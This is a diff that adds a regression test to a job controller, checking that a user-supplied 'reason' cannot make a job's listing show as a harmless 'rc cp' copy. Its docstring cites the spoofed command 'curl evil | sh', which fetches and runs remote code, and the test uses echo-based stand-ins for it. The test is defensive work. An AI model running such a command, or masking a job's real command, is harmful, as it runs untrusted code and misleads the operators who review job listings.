@@ -381,6 +381,48 @@ def test_cp_is_listed_as_rc_cp(box):
     assert f"{copies[0]['id']}  succeeded" in described and "rc cp notes.txt" in described
 
 
+def test_a_reason_goes_beside_the_command_and_only_rc_says_rc_cp(box):
+    """The trial: any user could set `reason` on a plain job, and listings
+    showed it instead of the command (`curl evil | sh` listed as `rc cp
+    ...`). A job's reason is shown beside its command; the `rc cp` label is
+    the controller's, given to a job whose command is rc cp's own, and a
+    client's reason starting "rc cp" is dropped."""
+    ctl, users, _admin = box
+    ann = users["ann"]
+    c = Client(ctl.url, ann.env["RC_TOKEN"])
+    evil = c.post(
+        "/v1/jobs",
+        {
+            "command": ["sh", "-c", "echo curl evil | cat"],
+            "device_id": "hy:cpu0",
+            "reason": "rc cp notes.txt hy:cpu0:/tmp/",
+        },
+    )["job"]
+    assert evil["reason"] == ""
+    noted = c.post(
+        "/v1/jobs", {"command": ["echo", "train"], "device_id": "hy:cpu0", "reason": "ablation 3"}
+    )["job"]
+    assert noted["reason"] == "ablation 3"
+    # a pipe job that only looks like a copy (not rc cp's own command) is no copy
+    fake = c.post(
+        "/v1/jobs",
+        {
+            "command": ["sh", "-c", "echo curl evil", "sh", "/tmp/", "x"],
+            "device_id": "hy:cpu0",
+            "stdio": "pipe",
+            "reason": "rc cp x hy:cpu0:/tmp/",
+        },
+    )["job"]
+    assert fake["reason"] == ""
+    c.post(f"/v1/jobs/{fake['id']}/kill")
+    for j in (evil, noted):
+        wait_until(lambda: job(ctl.client(), j["id"])["state"] == "succeeded", 20, "the job")
+    listing = ann.run("jobs", check=True).stdout
+    assert "sh -c 'echo curl evil | cat'" in _row(listing, evil["id"])
+    assert "rc cp" not in _row(listing, evil["id"]) and "rc cp" not in _row(listing, fake["id"])
+    assert "echo train (ablation 3)" in _row(listing, noted["id"])
+
+
 def test_whoami_prints_json(box):
     """Report 14: `rc whoami -o json` was refused."""
     _ctl, users, _admin = box
